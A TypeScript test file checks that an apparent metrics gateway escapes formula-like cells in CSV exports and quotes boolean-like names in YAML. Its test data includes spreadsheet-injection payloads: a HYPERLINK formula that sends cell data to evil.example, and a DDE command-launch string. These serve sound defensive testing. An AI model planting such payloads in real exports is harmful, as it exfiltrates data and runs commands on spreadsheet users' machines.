import { parse as parseCsv } from 'csv-parse/sync';
import { load } from 'js-yaml';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UsageStore } from '../../src/store/usage-store.service';
import { startApp, type RunningApp } from '../support/app';

let dir: string;
let gw: RunningApp;

/** Names a spreadsheet would run as formulas, as users, sessions and models. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '=cmd|\'/C calc\'!A0'];

/** Names a YAML 1.1 reader (PyYAML) takes for booleans, null or numbers when written bare. */
const BOOLEAN_LIKE = ['yes', 'no', 'on', 'off', 'y', 'N', 'True', 'null', '~', '123', 'a: b', 'x #y'];

const chat = (model: string, headers: Record<string, string> = {}): Promise<Response> =>
  fetch(`${gw.url}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ model, messages: [{ role: 'user', content: 'hi' }] }),
  });

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'vdm-export-'));
  gw = await startApp({ DEMO_TOKEN_DELAY_SECONDS: '0', VDM_STORE: `sqlite:${join(dir, 'usage.db')}`, VDM_STORE_FLUSH_MS: '20', VDM_INSTANCE_ID: 'gw-x' });
  for (const name of FORMULAS) expect((await chat(`demo:${name}`, { 'x-vdm-user': name, 'x-vdm-session': name })).status).toBe(200);
  expect((await chat('demo:plain-model', { 'x-vdm-user': 'alice', 'x-vdm-session': 's-1' })).status).toBe(200);
  for (const name of BOOLEAN_LIKE) expect((await chat(`demo:${name}`, { 'x-vdm-user': name })).status).toBe(200);
  await gw.app.get(UsageStore).flush();
});
afterAll(async () => {
  await gw.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('GET /metrics/usage?format=csv', () => {
  it('prefixes every cell a spreadsheet would run as a formula with a single quote, and leaves the rest and the JSON as they are', async () => {
    const json = (await (await fetch(`${gw.url}/metrics/usage?group_by=user,session,model`)).json()) as { rows: Record<string, unknown>[] };
    expect(json.rows.filter((r) => !BOOLEAN_LIKE.includes(r.user as string)).map((r) => r.user).sort()).toEqual([...FORMULAS, 'alice'].sort());
    const text = await (await fetch(`${gw.url}/metrics/usage?group_by=user,session,model&format=csv`)).text();
    const records = parseCsv<Record<string, string>>(text, { columns: true });
    expect(records).toHaveLength(FORMULAS.length + 1 + BOOLEAN_LIKE.length);
    for (const r of records) {
      for (const column of ['user', 'session', 'model']) expect(r[column], `${column} ${r[column]}`).not.toMatch(/^[=+\-@\t\r]/);
      expect(Number(r.requests)).toBe(1);
    }
    const byUser = new Map(records.map((r) => [r.user, r]));
    for (const name of FORMULAS) expect(byUser.get(`'${name}`)).toMatchObject({ session: `'${name}`, model: `'${name}` });
    expect(byUser.get('alice')).toMatchObject({ session: 's-1', model: 'plain-model' });
  });
});

/** The keys a YAML document gives `name`, or undefined when the name is not a key in it; quoted keys only count as themselves. */
function keyLines(text: string, name: string): string[] {
  return text.split('\n').filter((line) => {
    const key = line.trimStart();
    return key.startsWith(`${JSON.stringify(name)}:`) || key.startsWith(`${name}:`);
  });
}

describe('YAML answers', () => {
  it('quote model names a YAML 1.1 reader would take for booleans, null or numbers, and read back as the JSON answer', async () => {
    const yaml = await (await fetch(`${gw.url}/metrics/running-totals?include_active=false`)).text();
    const json = await (await fetch(`${gw.url}/metrics/running-totals?format=json&include_active=false`)).json();
    for (const name of BOOLEAN_LIKE) {
      const lines = keyLines(yaml, name);
      expect(lines.length, name).toBeGreaterThan(0);
      for (const line of lines) expect(line.trimStart(), name).toMatch(/^"/);
    }
    expect(yaml).not.toMatch(/^\s*(yes|no|on|off|y|n|true|false|null|~)\s*:/im);
    const { summary: yamlSummary, ...yamlRest } = load(yaml) as Record<string, any>;
    const { summary: jsonSummary, ...jsonRest } = json as Record<string, any>;
    expect(yamlRest.providers).toEqual(jsonRest.providers);
    expect(Object.keys(yamlSummary)).toEqual(Object.keys(jsonSummary));
    expect(Object.keys((load(yaml) as any).providers.demo.models)).toEqual(expect.arrayContaining(BOOLEAN_LIKE));
  });

  it('quote them in /metrics/usage?format=yaml too', async () => {
    const yaml = await (await fetch(`${gw.url}/metrics/usage?group_by=model&format=yaml`)).text();
    // A model name is never a bare word a YAML 1.1 reader takes for a boolean or null (the page's own flags may be).
    expect(yaml).not.toMatch(/^\s*-?\s*model:\s+(yes|no|on|off|y|n|true|false|null|~)\s*$/im);
    const models = (load(yaml) as { rows: { model: unknown }[] }).rows.map((r) => r.model);
    expect(models).toEqual(expect.arrayContaining(BOOLEAN_LIKE));
  });
});
